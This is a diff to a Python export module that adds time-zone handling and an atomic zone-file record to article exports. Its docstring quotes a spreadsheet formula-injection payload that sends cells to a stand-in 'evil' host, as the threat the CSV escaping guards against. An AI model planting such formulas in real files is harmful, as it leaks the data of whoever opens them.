@@ -13,16 +13,27 @@ included, plus a `date` column); the other tables are one `newsflow query` away.
   OWASP advises: a title `=HYPERLINK("http://evil/?"&A1, "click")` opened in Excel or LibreOffice
   would send the sheet's cells away. JSON Lines and Parquet keep every text as it is stored.
 
-`date` is the UTC date of `published_at`, else of `fetched_at`; `since` keeps dates on or after it.
-Timestamps are written in UTC.
+`date` is the date of `published_at`, else of `fetched_at`, in the export's zone (`tz`, UTC unless given:
+`newsflow export --tz`, "Analyst 53"); `since` keeps dates on or after it. CSV and JSON write timestamps with
+that zone's offset; Parquet stores instants. A Parquet export records its zone in `DIR/.articles.zone` (beside the
+date folders, not among them: a reader of `articles/**` would take it for data), and one in another zone there is
+refused: it would rewrite only the dates it covers, and an article near
+midnight would sit in both zones' date folders (a folder without the file was exported in UTC). Two names of UTC
+(`UTC`, `Etc/UTC`, `GMT`, `Zulu`: a tz database file that is Etc/UTC's or Etc/GMT's) are one zone. The zone file is
+written (to a temporary file, renamed over it) before any date folder moves: a write that fails leaves the earlier
+export as it was, and one killed midway leaves no folder dated in a zone the file does not name. A zone file that is
+not UTF-8 text is refused in one line (exit 2).
 """
 
 from __future__ import annotations
 
 import os
+import re
 import shutil
+import zoneinfo
 from dataclasses import dataclass
 from datetime import date
+from importlib import resources
 from pathlib import Path
 from typing import TYPE_CHECKING, Literal
 
@@ -37,7 +48,9 @@ if TYPE_CHECKING:
 ExportFormat = Literal["parquet", "csv", "jsonl"]
 EXPORT_FORMATS: tuple[ExportFormat, ...] = ("parquet", "csv", "jsonl")
 
-_DATE = "CAST(coalesce(published_at, fetched_at) AT TIME ZONE 'UTC' AS DATE)"
+_DATE = "CAST(coalesce(published_at, fetched_at) AT TIME ZONE $tz AS DATE)"
+ZONE_FILE = ".articles.zone"
+"""Beside a Parquet export's `articles` folder: the zone of its dates."""
 _SELECT = f"SELECT *, {_DATE} AS date FROM articles WHERE $since IS NULL OR {_DATE} >= $since ORDER BY date, article_id"
 # A text cell a spreadsheet reads as a formula: it begins with one of these and is not a number.
 FORMULA_START = r"^[=+\-@\t\r]"
@@ -57,22 +70,25 @@ class ExportSummary:
 
 
 def export_articles(
-    warehouse: Warehouse, out_dir: Path, fmt: ExportFormat, since: date | None = None
+    warehouse: Warehouse, out_dir: Path, fmt: ExportFormat, since: date | None = None, tz: str = "UTC"
 ) -> ExportSummary:
-    """Write the articles (dated `since` or later) to `out_dir` in `fmt`; returns what was written."""
+    """Write the articles (dated `since` or later in `tz`, a zone as DuckDB spells it) to `out_dir` in `fmt`;
+    returns what was written."""
     if fmt not in EXPORT_FORMATS:
         raise ValueError(f"unknown export format {fmt!r}; expected one of {', '.join(EXPORT_FORMATS)}")
     target = out_dir / ("articles" if fmt == "parquet" else f"articles.{fmt}")
     _prepare_folder(out_dir, target, fmt)
+    if fmt == "parquet":
+        _check_zone(target, tz)
     # DuckDB writes a CSV or JSON file beside its target and renames it; Parquet partitions it writes in
     # place, so a full disk cut the previous export's files short: they go to a fresh folder first.
     written = out_dir / f".articles.partial-{os.getpid()}" if fmt == "parquet" else target
     with warehouse.reading() as con:
-        con.execute("SET TimeZone = 'UTC'")  # session only: timestamps in CSV and JSON are written in UTC
+        con.execute(f"SET TimeZone = {_sql_literal(tz)}")  # session only: CSV's and JSON's timestamps are tz's
         try:
             select = _spreadsheet_safe_select(con) if fmt == "csv" else _SELECT
             rows = con.execute(
-                f"COPY ({select}) TO {_sql_string(written)} ({_OPTIONS[fmt]})", {"since": since}
+                f"COPY ({select}) TO {_sql_string(written)} ({_OPTIONS[fmt]})", {"since": since, "tz": tz}
             ).fetchall()
         except duckdb.Error as exc:
             if written != target:
@@ -80,6 +96,7 @@ def export_articles(
             raise OutputError(f"export to {target} failed: {' '.join(str(exc).split())}; an earlier export there "
                               "is left as it was") from exc
     if written != target:
+        _record_zone(out_dir, written, target, tz)
         _move_partitions(written, target)
     files = tuple(sorted(target.rglob("*.parquet"))) if fmt == "parquet" else (target,)
     return ExportSummary(fmt, target, int(rows[0][0]) if rows else 0, files)
@@ -98,6 +115,69 @@ def _move_partitions(written: Path, target: Path) -> None:
         else:
             partition.rename(old)
     written.rmdir()
+
+
+def _record_zone(out_dir: Path, written: Path, target: Path, tz: str) -> None:
+    """The zone in `DIR/.articles.zone` before a date folder moves (review of "Analyst 53": recorded after the move, a
+    failed write left Tokyo's folders read as UTC's). It names the zone the folders are in: the earlier export's,
+    which `_check_zone` made `tz`, or none. A failure leaves the earlier export whole and removes what was written."""
+    partial = out_dir / f"{ZONE_FILE}.partial-{os.getpid()}"
+    try:
+        partial.write_text(tz + "\n", encoding="utf-8")
+        os.replace(partial, out_dir / ZONE_FILE)
+    except OSError as exc:
+        partial.unlink(missing_ok=True)
+        shutil.rmtree(written, ignore_errors=True)
+        raise OutputError(f"export to {target} failed: cannot write {out_dir / ZONE_FILE} (the zone of its dates, "
+                          f"{tz}): {exc.strerror}; an earlier export there is left as it was") from exc
+
+
+def _check_zone(target: Path, tz: str) -> None:
+    """InputError (exit 2) when the Parquet export in `target` has its dates in another zone than `tz`."""
+    if not target.is_dir():
+        return
+    zone_file = target.parent / ZONE_FILE
+    try:
+        earlier = zone_file.read_text(encoding="utf-8").strip() if zone_file.is_file() else "UTC"
+    except UnicodeDecodeError:
+        raise InputError(f"export: {zone_file} is not a zone name (not UTF-8 text); write into it the --tz that "
+                         f"{target} was exported with, or delete that folder and the file first") from None
+    if not same_zone(earlier, tz):
+        raise InputError(f"export: the export in {target} has its dates in {earlier}, and one in {tz} would put an "
+                         f"article near midnight in two date folders; give --tz {earlier}, or another DIR, or "
+                         "delete that folder first")
+
+
+def same_zone(one: str, other: str) -> bool:
+    """Whether two zone names give every instant one date: one name in any case, or both UTC (below)."""
+    return one.lower() == other.lower() or (is_utc(one) and is_utc(other))
+
+
+_UTC_FILES = ("Etc/UTC", "Etc/GMT")  # offset 0 at every instant; their links: UTC, Zulu, Universal, GMT, Greenwich...
+_ZONE_NAME = re.compile(r"[A-Za-z0-9_+-]+(?:/[A-Za-z0-9_+-]+)*")  # no `..`: the name is read from a file
+
+
+def is_utc(name: str) -> bool:
+    """Whether the tz database's zone `name` is UTC: its file is Etc/UTC's or Etc/GMT's (a link to one of them).
+    Only these two: other links are not proved one zone, since DuckDB's ICU and Python's tz database differ on some
+    before 1970 (tzdata 2022's merged zones)."""
+    if name.upper() == "UTC":
+        return True
+    data = _zone_file(name)
+    return data is not None and data in {_zone_file(utc) for utc in _UTC_FILES}
+
+
+def _zone_file(name: str) -> bytes | None:
+    """The tz database's file for `name`, where Python's zoneinfo reads it (its TZPATH, else the tzdata package)."""
+    if not _ZONE_NAME.fullmatch(name):
+        return None
+    for root in zoneinfo.TZPATH:
+        if (path := Path(root, name)).is_file():
+            return path.read_bytes()
+    try:
+        return resources.files("tzdata.zoneinfo").joinpath(*name.split("/")).read_bytes()
+    except (ModuleNotFoundError, OSError):
+        return None
 
 
 def _spreadsheet_safe_select(con: duckdb.DuckDBPyConnection) -> str:
@@ -138,4 +218,8 @@ def _special_file(target: Path) -> Path | None:
 
 def _sql_string(path: Path) -> str:
     # COPY takes its target as a literal, not a parameter.
-    return "'" + str(path.resolve()).replace("'", "''") + "'"
+    return _sql_literal(str(path.resolve()))
+
+
+def _sql_literal(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
